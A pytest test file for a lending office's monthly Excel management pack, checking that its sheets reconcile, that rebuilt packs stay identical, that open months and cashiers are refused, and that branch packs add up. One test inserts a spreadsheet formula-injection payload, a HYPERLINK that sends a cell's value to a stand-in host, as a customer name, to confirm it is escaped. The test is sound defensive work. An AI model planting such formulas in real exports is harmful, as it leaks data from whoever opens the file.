"""The manager's monthly Excel pack: built from the closed month, its sheets agree, and it never changes later.

Most scenarios use a copy of the demo office, whose month ends ran every month up to September 2026 (October has
a snapshot but is not closed).  A small hand-made office checks exact figures and the branch split.
"""
from __future__ import annotations

import argparse
import datetime as dt
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from adversarial_helpers import copy_db, demo_db, demo_template  # noqa: F401  (fixtures)

from models.core.audit import AuditLog
from models.core.errors import PermissionDenied
from models.core.progress import Cancelled, CancelToken, Progress
from models.core.users import User
from reports.monthly_pack import (
    PackRefused,
    export_monthly_pack,
    pack_months,
    require_closed_month,
)

AUGUST = dt.date(2026, 8, 31)
SEPTEMBER = dt.date(2026, 9, 30)
OCTOBER = dt.date(2026, 10, 31)


def user(name: str) -> User:
    return User.get(User.username == name)


def export(tmp_path, period_end=SEPTEMBER, name="pack.xlsx", branch_id=None, who="manajer", progress=None) -> Path:
    (tmp_path / "out").mkdir(exist_ok=True)
    out = tmp_path / "out" / name
    export_monthly_pack(user(who), period_end, out, branch_id=branch_id, progress=progress)
    return out


def header_row(ws) -> int:
    """The bold header sits right above the frozen pane."""
    return int(ws.freeze_panes[1:]) - 1


def table(ws) -> tuple[list[str], list[tuple], tuple | None]:
    """(header labels, data rows, totals row) of a pack sheet."""
    rows = list(ws.iter_rows(values_only=True))
    h = header_row(ws)
    labels = list(rows[h - 1])
    body = rows[h:]
    if body and body[-1][0] == "TOTAL":
        return labels, body[:-1], body[-1]
    return labels, body, None


def col(ws, label: str) -> list:
    labels, body, _ = table(ws)
    i = labels.index(label)
    return [r[i] for r in body]


def total(ws, label: str):
    labels, _, totals = table(ws)
    return totals[labels.index(label)]


def summary(ws) -> dict[str, object]:
    labels, body, _ = table(ws)
    return {r[0]: r[1] for r in body}


def rupiah(value) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


# --------------------------------------------------------------------------------- the sheets agree
def test_the_september_pack_adds_up_across_its_sheets(demo_db, tmp_path):
    wb = openpyxl.load_workbook(export(tmp_path))
    detail = wb["Rincian Pinjaman"]
    outstanding = total(detail, "Sisa Pokok")
    assert outstanding == sum(v for v in col(detail, "Sisa Pokok")) and outstanding > 0
    # Ageing total = outstanding principal = every breakdown's total = the collectibility total.
    assert total(wb["Umur Tunggakan"], "Sisa Pokok") == outstanding
    assert sum(col(wb["Umur Tunggakan"], "Sisa Pokok")) == outstanding
    for name in ("Per Produk", "Per Petugas", "Per Dealer", "Per Cabang", "Per Wilayah", "Kolektibilitas"):
        assert total(wb[name], "Sisa Pokok") == outstanding, name
        assert sum(col(wb[name], "Sisa Pokok")) == outstanding, name
        assert total(wb[name], "Jumlah Pinjaman") == total(wb["Umur Tunggakan"], "Jumlah Pinjaman"), name
    # The allowance of the detail = the collectibility sheet's = the summary's.
    assert rupiah(total(detail, "CKPN/PPKA")) == rupiah(total(wb["Kolektibilitas"], "CKPN/PPKA"))
    figures = summary(wb["Ringkasan"])
    assert figures["Sisa pokok (outstanding)"] == outstanding
    assert rupiah(figures["Cadangan kerugian (CKPN/PPKA)"]) == rupiah(total(detail, "CKPN/PPKA"))
    assert figures["Angsuran tertunggak"] == total(detail, "Angsuran Tertunggak")
    assert figures["Jumlah pinjaman aktif"] == total(wb["Umur Tunggakan"], "Jumlah Pinjaman")
    # Disbursements: the summary counts and adds the detail sheet.
    assert figures["Pinjaman baru dicairkan"] == len(col(wb["Pencairan"], "No. Kontrak"))
    assert figures["Jumlah pencairan"] == total(wb["Pencairan"], "Pokok Pembiayaan")
    assert figures["Jumlah pencairan"] == total(wb["Kinerja Petugas"], "Jumlah Pencairan")
    # NPF gross: classes 3–5 over the outstanding, as the collectibility sheet lists them.
    klass = wb["Kolektibilitas"]
    npl = sum(v for k, v in zip(col(klass, "Kol"), col(klass, "Sisa Pokok")) if k >= 3)
    assert figures["Pembiayaan bermasalah (Kol 3–5)"] == npl
    assert round(figures["NPF bruto"], 4) == round(npl / outstanding, 4)
    # The ledger: the balance sheet's loans receivable is the snapshot's outstanding principal.
    assert figures["Piutang pembiayaan di neraca (akun pokok)"] == outstanding
    assert figures["Selisih sisa pokok − neraca (harus nol)"] == 0
    sheet = wb["Neraca"]
    amounts = dict(zip(col(sheet, "Pos"), col(sheet, "Jumlah")))
    assert amounts["Piutang Pembiayaan"] == outstanding
    assert rupiah(amounts["JUMLAH ASET"]) == rupiah(amounts["JUMLAH LIABILITAS DAN EKUITAS"])
    assert total(sheet, "Jumlah") == 0  # "Selisih (harus nol)"


def test_collections_roll_rates_and_premature_arrears_agree_with_the_summary(demo_db, tmp_path):
    wb = openpyxl.load_workbook(export(tmp_path))
    figures = summary(wb["Ringkasan"])
    due, collected = figures["Tagihan jatuh tempo bulan ini"], figures["Tagihan yang diterima"]
    assert due > 0 and collected > 0
    assert (total(wb["Penagihan"], "Tagihan Jatuh Tempo"), total(wb["Penagihan"], "Tagihan Diterima")) == \
        (due, collected)
    # Each grouping of the collections sheet adds up to the same total, and so do the officers' lines.
    sheet = wb["Penagihan"]
    for by in ("Cabang", "Petugas", "Kolektor"):
        assert sum(d for b, d in zip(col(sheet, "Menurut"), col(sheet, "Tagihan Jatuh Tempo")) if b == by) == due
    assert total(wb["Kinerja Petugas"], "Tagihan Diterima") == collected
    assert round(figures["Tingkat penagihan"], 4) == round(collected / due, 4)
    # The roll-rate rows hold last month's book: their outstanding is August's.
    august = summary(openpyxl.load_workbook(export(tmp_path, AUGUST, "aug.xlsx"))["Ringkasan"])
    assert total(wb["Roll Rate"], "Sisa Pokok Bulan Lalu") == august["Sisa pokok (outstanding)"]
    for row in table(wb["Roll Rate"])[1][:-1]:
        rates = [v for v in row[3:] if v is not None]
        assert not rates or abs(sum(rates) - 1) < 0.001  # every loan went somewhere
    # Premature arrears: officers and dealers count the same young accounts.
    for label in ("Akun MOB 1–12", "Dinilai FPD", "FPD"):
        assert total(wb["Prematur Petugas"], label) == total(wb["Prematur Dealer"], label) > 0 or label == "FPD"
    assert total(wb["Kinerja Dealer"], "Akun Dinilai FPD") <= total(wb["Prematur Dealer"], "Dinilai FPD")
    vintage = table(wb["Vintage"])[1]
    assert vintage and all(isinstance(r[0], dt.datetime) for r in vintage)


def test_the_trial_balance_of_the_month_balances(demo_db, tmp_path):
    ws = openpyxl.load_workbook(export(tmp_path))["Neraca Saldo"]
    for debit, credit in (("Saldo Awal Debit", "Saldo Awal Kredit"), ("Mutasi Debit", "Mutasi Kredit"),
                          ("Saldo Akhir Debit", "Saldo Akhir Kredit")):
        assert rupiah(total(ws, debit)) == rupiah(total(ws, credit)) > 0
        assert rupiah(sum(v or 0 for v in col(ws, debit))) == rupiah(total(ws, debit))
    assert "Periode 01/09/2026 s.d. 30/09/2026" in [r[0] for r in ws.iter_rows(max_row=8, values_only=True)]


def test_the_summary_compares_with_last_month_and_last_year(demo_db, tmp_path):
    september = summary(openpyxl.load_workbook(export(tmp_path))["Ringkasan"])
    august = summary(openpyxl.load_workbook(export(tmp_path, AUGUST, "aug.xlsx"))["Ringkasan"])
    last_year = summary(openpyxl.load_workbook(export(tmp_path, dt.date(2025, 9, 30), "sep25.xlsx"))["Ringkasan"])
    ws = openpyxl.load_workbook(tmp_path / "out" / "pack.xlsx")["Ringkasan"]
    labels, body, _ = table(ws)
    assert labels[1:4] == ["September 2026", "Bulan lalu", "Tahun lalu"]
    for row in body:
        if row[0] in august and row[2] is not None:
            assert row[2] == august[row[0]], row[0]
            assert row[3] == last_year[row[0]], row[0]
            if isinstance(row[1], (int, float)) and row[4] is not None:
                assert rupiah(row[4]) == rupiah(row[1]) - rupiah(row[2]), row[0]
    assert september["Sisa pokok (outstanding)"] != august["Sisa pokok (outstanding)"]


# ------------------------------------------------------------------------------------- the form of it
def test_every_sheet_has_a_title_a_frozen_header_a_filter_rupiah_numbers_and_no_formula(demo_db, tmp_path):
    wb = openpyxl.load_workbook(export(tmp_path))
    assert len(wb.sheetnames) >= 15
    money_cells = 0
    for ws in wb.worksheets:
        h = header_row(ws)
        assert ws.freeze_panes and h >= 6, ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith(f"A{h}:"), ws.title
        assert ws.cell(2, 1).value and ws.cell(3, 1).value.startswith("Periode: September 2026"), ws.title
        assert all(ws.cell(h, c).font.b for c in range(1, ws.max_column + 1)), ws.title
        assert all(ws.column_dimensions[ws.cell(h, c).column_letter].width for c in range(1, ws.max_column + 1))
        if ws.title != "Ringkasan":
            assert ws.cell(ws.max_row, 1).value == "TOTAL" and ws.cell(ws.max_row, 1).font.b, ws.title
        for row in ws.iter_rows(min_row=h + 1):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
                fmt = cell.number_format
                if '"Rp "' in fmt:
                    assert isinstance(cell.value, (int, float)), (ws.title, cell.coordinate, cell.value)
                    assert fmt == '"Rp "#,##0;-"Rp "#,##0'
                    money_cells += 1
                elif isinstance(cell.value, str):
                    # Text cells are never money written as text.
                    assert not cell.value.startswith("Rp"), (ws.title, cell.coordinate)
                if fmt == "0.00%":
                    assert isinstance(cell.value, (int, float)) and -10 <= cell.value <= 10
        labels = [ws.cell(h, c).value for c in range(1, ws.max_column + 1)]
        for label in ("Sisa Pokok", "CKPN/PPKA", "Jumlah Pencairan", "Jumlah"):
            if label in labels:
                c = labels.index(label) + 1
                values = [ws.cell(r, c) for r in range(h + 1, ws.max_row + 1) if ws.cell(r, c).value is not None]
                assert all(isinstance(v.value, (int, float)) and "Rp" in v.number_format for v in values), \
                    (ws.title, label)
    assert money_cells > 500


def test_a_customer_name_that_looks_like_a_formula_stays_text(demo_db, tmp_path):
    from models.customers.customers import Customer
    from models.loans.snapshots import LoanSnapshot

    snap = LoanSnapshot.get(LoanSnapshot.period_end == SEPTEMBER)
    Customer.update(full_name='=HYPERLINK("http://x/?"&B2,"klik")').where(Customer.id == snap.customer_id).execute()
    ws = openpyxl.load_workbook(export(tmp_path))["Rincian Pinjaman"]
    names = col(ws, "Nasabah")
    assert "'=HYPERLINK(\"http://x/?\"&B2,\"klik\")" in names
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


# ----------------------------------------------------------------------------------------- stable
def test_last_months_pack_built_again_after_more_business_is_identical(demo_db, tmp_path):
    from payments_helpers import disburse

    from models.accounting import month_end as me
    from models.cashier.payments import post_payment
    from models.core.idempotency import new_key
    from models.loans.loans import Loan

    first = export(tmp_path, AUGUST, "aug-before.xlsx").read_bytes()
    september = export(tmp_path, SEPTEMBER, "sep-before.xlsx").read_bytes()
    # October is closed, a new loan is disbursed and a customer pays in November.
    me.run_all(user("akuntan"), OCTOBER)
    disburse("BDG/2026/T0001", principal="30000000", start=dt.date(2026, 11, 2))
    loan = Loan.select().where(Loan.status == "active").order_by(Loan.id).first()
    cashier = User.select().where(User.role == "cashier").order_by(User.id.desc()).first()
    post_payment(cashier, loan, loan.installment_amount, dt.date(2026, 11, 2), idempotency_key=new_key())
    assert OCTOBER in pack_months()
    export(tmp_path, OCTOBER, "oct.xlsx")
    again = export(tmp_path, AUGUST, "aug-after.xlsx").read_bytes()
    assert again == first  # byte for byte: dates in the file are the period end
    assert export(tmp_path, SEPTEMBER, "sep-after.xlsx").read_bytes() == september
    wb = openpyxl.load_workbook(tmp_path / "out" / "aug-after.xlsx")
    assert wb.properties.created == wb.properties.modified == dt.datetime(2026, 8, 31)


# ---------------------------------------------------------------------------------------- refused
def test_a_month_without_a_closed_snapshot_is_refused_naming_the_month_and_the_rule(demo_db, tmp_path):
    with pytest.raises(PackRefused, match="Oktober 2026.*belum ditutup"):
        require_closed_month(OCTOBER)  # a snapshot exists, but the month is still open
    with pytest.raises(PackRefused, match="Januari 2024.*tidak ada snapshot"):
        require_closed_month(dt.date(2024, 1, 15))  # closed, but before the first month-end snapshot
    with pytest.raises(PackRefused, match="Maret 2030"):
        export(tmp_path, dt.date(2030, 3, 31))
    assert list((tmp_path / "out").iterdir()) == []
    months = pack_months()
    assert SEPTEMBER in months and OCTOBER not in months and months == sorted(months, reverse=True)


def cli_args(**kw):
    base = dict(what="monthly", month=None, branch=None, date_from=None, date_to=None, out="", user=None)
    base.update(kw)
    return argparse.Namespace(**base)


def test_the_command_writes_the_pack_and_explains_a_refusal(demo_db, tmp_path, capsys):
    from reports.commands import export_command

    out = tmp_path / "sep.xlsx"
    before = AuditLog.select().count()
    assert export_command(cli_args(month="2026-09", out=str(out))) == 0
    assert "Seluruh kantor" in capsys.readouterr().out and out.exists()
    last = AuditLog.select().order_by(AuditLog.seq.desc()).first()
    assert last.action == "report.monthly_pack" and last.entity_id == "2026-09"
    assert AuditLog.select().count() == before + 1
    assert export_command(cli_args(month="2026-10", out=str(tmp_path / "oct.xlsx"))) == 1
    err = capsys.readouterr().err
    assert "Oktober 2026" in err and "belum ditutup" in err and not (tmp_path / "oct.xlsx").exists()
    for month in ("2026-13", "2026-9", "26-09", "2026/09"):
        assert export_command(cli_args(month=month, out=str(out))) == 2
    assert "--month" in capsys.readouterr().err
    assert export_command(cli_args(month="2026-09", out=str(tmp_path / "x.csv"))) == 2
    assert export_command(cli_args(month="2026-09", branch="ZZZ", out=str(out))) == 2
    assert "--branch" in capsys.readouterr().err
    assert export_command(cli_args(month="2026-09", out=str(out), user="kasir")) == 1  # no report.export
    assert export_command(cli_args(month="2026-09", branch="BDG", out=str(tmp_path / "bdg.xlsx"))) == 0


def test_main_parses_export_monthly(demo_db, tmp_path):
    from main import build_parser

    args = build_parser().parse_args(["--db", "x.db", "export", "monthly", "--month", "2026-09", "--branch", "BDG",
                                      "--out", "p.xlsx"])
    assert (args.what, args.month, args.branch, args.out) == ("monthly", "2026-09", "BDG", "p.xlsx")


def test_a_cashier_may_not_export_the_pack(demo_db, tmp_path):
    with pytest.raises(PermissionDenied):
        export(tmp_path, who="kasir")
    assert list((tmp_path / "out").iterdir()) == []


def test_a_cancel_leaves_no_file_and_no_audit_row(demo_db, tmp_path):
    token = CancelToken()
    seen = []

    def report(done, total_, text):
        seen.append(text)
        if text == "Rincian Pinjaman per Akhir Bulan":
            token.cancel()

    before = AuditLog.select().count()
    with pytest.raises(Cancelled):
        export(tmp_path, progress=Progress(report, token, interval=0))
    assert list((tmp_path / "out").iterdir()) == [] and AuditLog.select().count() == before
    assert "Ringkasan Bulanan" in seen


# ---------------------------------------------------------------------------------------- branches
def split_into_two_branches():
    """Hand-made: a second branch takes over every other loan (and its snapshot rows)."""
    from models.core.office import Branch
    from models.loans.loans import Loan
    from models.loans.snapshots import LoanSnapshot

    second = Branch.create(code="CMH", name="Cabang Cimahi")
    moved = [i for (i,) in Loan.select(Loan.id).order_by(Loan.id).tuples()][::2]
    Loan.update(branch=second.id).where(Loan.id.in_(moved)).execute()
    LoanSnapshot.update(branch=second.id).where(LoanSnapshot.loan.in_(moved)).execute()
    return Branch.get(Branch.code == "BDG"), second


def test_two_branch_packs_add_up_to_the_office_pack(demo_db, tmp_path):
    bdg, cmh = split_into_two_branches()
    office = openpyxl.load_workbook(export(tmp_path, name="office.xlsx"))
    one = openpyxl.load_workbook(export(tmp_path, name="bdg.xlsx", branch_id=bdg.id))
    two = openpyxl.load_workbook(export(tmp_path, name="cmh.xlsx", branch_id=cmh.id))
    assert "Neraca" in office.sheetnames and "Neraca" not in one.sheetnames  # the ledger is the office's
    assert one["Ringkasan"].cell(4, 1).value == "Cakupan: BDG Cabang Bandung"
    for sheet, label in (("Umur Tunggakan", "Sisa Pokok"), ("Umur Tunggakan", "Jumlah Pinjaman"),
                         ("Per Produk", "Sisa Pokok"), ("Kolektibilitas", "Sisa Pokok"),
                         ("Rincian Pinjaman", "Sisa Pokok"), ("Rincian Pinjaman", "Angsuran Tertunggak"),
                         ("Pencairan", "Pokok Pembiayaan"), ("Kinerja Petugas", "Akun Baru")):
        a, b, whole = (total(wb[sheet], label) or 0 for wb in (one, two, office))
        assert a + b == whole, (sheet, label)
        assert 0 <= a <= whole and 0 <= b <= whole, (sheet, label)
    assert total(one["Rincian Pinjaman"], "Sisa Pokok") > 0 and total(two["Rincian Pinjaman"], "Sisa Pokok") > 0
    assert rupiah(total(one["Rincian Pinjaman"], "CKPN/PPKA")) + rupiah(total(two["Rincian Pinjaman"], "CKPN/PPKA")) \
        == rupiah(total(office["Rincian Pinjaman"], "CKPN/PPKA"))
    assert col(office["Per Cabang"], "Kode") == ["BDG", "CMH"]
    assert col(office["Per Cabang"], "Sisa Pokok") == [total(one["Rincian Pinjaman"], "Sisa Pokok"),
                                                       total(two["Rincian Pinjaman"], "Sisa Pokok")]


# --------------------------------------------------------------------------------- a small office
def test_a_small_office_pack_shows_exactly_its_two_loans(ready_db, staff, tmp_path):
    from payments_helpers import disburse

    from models.accounting import month_end as me
    from models.customers.customers import Customer

    customers = list(Customer.select().order_by(Customer.id).limit(2))
    disburse("BDG/2026/00001", principal="16000000", start=dt.date(2026, 1, 10), customer=customers[0])
    disburse("BDG/2026/00002", principal="45500000", tenor=12, start=dt.date(2026, 1, 20), customer=customers[1],
             product_code="KMK")
    january = dt.date(2026, 1, 31)
    with pytest.raises(PackRefused, match="Januari 2026"):
        require_closed_month(january)
    me.run_all(staff.akuntan, january)
    wb = openpyxl.load_workbook(export(tmp_path, january))
    figures = summary(wb["Ringkasan"])
    assert figures["Jumlah pinjaman aktif"] == 2 and figures["Pinjaman baru dicairkan"] == 2
    assert figures["Jumlah pencairan"] == 61_500_000 == figures["Sisa pokok (outstanding)"]
    assert figures["NPF bruto"] == 0
    assert col(wb["Pencairan"], "No. Kontrak") == ["BDG/2026/00001", "BDG/2026/00002"]
    assert col(wb["Per Produk"], "Kode") == ["KM", "KMK"]
    assert col(wb["Per Produk"], "Sisa Pokok") == [16_000_000, 45_500_000]
    assert col(wb["Umur Tunggakan"], "Sisa Pokok")[0] == 61_500_000  # nothing fell due yet: all current
    assert total(wb["Neraca Saldo"], "Saldo Akhir Debit") == total(wb["Neraca Saldo"], "Saldo Akhir Kredit")
    # The previous month and last year have no snapshot: their cells stay empty.
    labels, body, _ = table(wb["Ringkasan"])
    assert all(r[2] is None and r[3] is None for r in body)



def test_a_cashier_posts_a_payment_while_the_pack_is_being_written(demo_db, tmp_path):
    """The pack reads one snapshot (models.core.db.read_transaction) and never takes the write lock."""
    import threading

    from models.cashier.payments import post_payment
    from models.core.idempotency import new_key
    from models.loans.loans import Loan

    loan = Loan.select().where(Loan.status == "active").order_by(Loan.id).first()
    cashier = User.select().where(User.role == "cashier").order_by(User.id.desc()).first()
    posted = []

    def pay() -> None:
        posted.append(post_payment(cashier, loan, loan.installment_amount, dt.date(2026, 11, 2),
                                   idempotency_key=new_key()))

    def report(done, total_, text):
        if text == "Rincian Pinjaman per Akhir Bulan" and not posted:
            worker = threading.Thread(target=pay)
            worker.start()
            worker.join(timeout=20)

    out = export(tmp_path, progress=Progress(report, interval=0))
    assert len(posted) == 1  # the payment went through while the pack held its read snapshot
    assert summary(openpyxl.load_workbook(out)["Ringkasan"])["Sisa pokok (outstanding)"] > 0


def test_dealer_performance_counts_the_months_orders_decisions_and_disbursements(demo_db, tmp_path):
    from models.credit.applications import Application, StatusChange

    wb = openpyxl.load_workbook(export(tmp_path))
    dealers = wb["Kinerja Dealer"]
    # Orders and decisions, read again from the applications' history the slow way.
    start, end = dt.datetime(2026, 9, 1), dt.datetime(2026, 10, 1)
    moves = [(a.number, a.dealer_id, c.from_status, c.to_status) for c in StatusChange.select()
             .where((StatusChange.at >= start) & (StatusChange.at < end))
             for a in [Application.get_by_id(c.application_id)] if a.dealer_id is not None]
    sent = {n for n, _d, f, t in moves if t == "submitted" and f in ("draft", "surveyed", "")}
    approved = {n for n, _d, _f, t in moves if t in ("approved", "countered")}
    rejected = {n for n, _d, _f, t in moves if t == "rejected"}
    assert total(dealers, "Order Masuk") == len(sent) > 0
    assert total(dealers, "Disetujui") == len(approved)
    assert total(dealers, "Ditolak") == len(rejected)
    # Disbursements through a dealer: the disbursement sheet's rows that name a dealer.
    through_dealer = [(p, d) for p, d in zip(col(wb["Pencairan"], "Pokok Pembiayaan"), col(wb["Pencairan"], "Dealer"))
                      if d]
    assert total(dealers, "Pinjaman Cair") == len(through_dealer)
    assert total(dealers, "Jumlah Pencairan") == sum(p for p, _d in through_dealer)
    assert total(dealers, "Sisa Pokok") == sum(v for k, v in zip(col(wb["Per Dealer"], "Kode"),
                                                              col(wb["Per Dealer"], "Sisa Pokok")) if k)


def test_the_summary_pdf_prints_the_workbooks_figures(demo_db, tmp_path):
    from pypdf import PdfReader

    from models.core.money import format_rupiah

    wb = openpyxl.load_workbook(export(tmp_path))
    pdf = export(tmp_path, name="ringkasan.pdf")
    pages = [page.extract_text() for page in PdfReader(str(pdf)).pages]
    assert len(pages) == 5 and "Ringkasan Bulanan" in pages[0] and "September 2026" in pages[0]
    text = " ".join(pages)
    figures = summary(wb["Ringkasan"])
    for label in ("Sisa pokok (outstanding)", "Pembiayaan bermasalah (Kol 3–5)", "Jumlah pencairan"):
        assert format_rupiah(Decimal(figures[label])) in text, label
    npf = f"{Decimal(str(figures['NPF bruto'])) * 100:.2f}".replace(".", ",") + " %"
    assert npf in pages[0]
    assert format_rupiah(Decimal(total(wb["Umur Tunggakan"], "Sisa Pokok"))) in text
